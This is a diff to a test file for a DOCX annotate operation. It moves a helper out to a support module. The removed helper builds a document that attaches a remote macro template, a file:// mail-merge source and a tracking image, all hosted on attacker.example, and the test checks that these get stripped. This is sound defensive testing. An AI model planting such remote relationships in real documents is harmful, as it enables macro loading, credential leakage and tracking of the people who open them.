@@ -5,6 +5,7 @@ import { PDFDict, PDFDocument, PDFName } from "pdf-lib";
 import { DocxTemplate } from "../../src/docx/template";
 import * as T from "../../src/docx/testing";
 import * as B from "../support/docx-builder";
+import { linkedTemplate } from "../support/linked-template";
 import { readZipDirectory } from "../../src/docx/zip";
 import { annotateDocument } from "../../src/operations/annotate";
 import { b64, corpusPdf, fromDataUri, post, problem } from "./helpers";
@@ -270,27 +271,6 @@ function renameEntry(zip: Uint8Array, from: string, to: string): Uint8Array {
 }
 
 describe("what annotate returns carries nothing that fetches or runs on opening", () => {
-  const RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
-  /** A template whose settings attach a remote macro template and whose picture is also linked to a remote file, with a hyperlink. */
-  function linkedTemplate(): Uint8Array {
-    const picture = B.inlineImage("rIdPic", 20, 20).replace(`<a:blip r:embed="rIdPic"/>`, `<a:blip r:embed="rIdPic" r:link="rIdRemotePic"/>`);
-    return B.buildDocx({
-      body: B.p([B.r("Name: "), `<w:sdt><w:sdtPr><w:tag w:val="client_name"/></w:sdtPr><w:sdtContent>${B.r("x")}</w:sdtContent></w:sdt>`]) + B.p(picture) + B.p(B.hyperlink("rIdLink", "our terms")),
-      media: { rIdPic: T.makePng(4, 4) },
-      rels: [
-        { id: "rIdRemotePic", type: "image", target: "https://attacker.example/track.png", external: true },
-        B.hyperlinkRel("rIdLink", "https://example.com/terms"),
-      ],
-      settings: `<w:attachedTemplate r:id="rIdTpl"/>${B.DEFAULT_SETTINGS}<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:dataSource r:id="rIdData"/></w:mailMerge>`,
-      extra: {
-        "word/_rels/settings.xml.rels":
-          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
-          `<Relationship Id="rIdTpl" Type="${RELS}/attachedTemplate" Target="https://attacker.example/macros.dotm" TargetMode="External"/>` +
-          `<Relationship Id="rIdData" Type="${RELS}/mailMergeSource" Target="file://attacker.example/share/data.mdb" TargetMode="External"/></Relationships>`,
-      },
-    });
-  }
-
   it("strips a remote attached template, a mail-merge source and a linked picture (to=docx), keeping hyperlinks and the embedded picture", async () => {
     for (const fields of [[{ id: "client_name", type: "text", value: "Ada" }], []]) {
       const { bytes } = await filled(linkedTemplate(), fields);
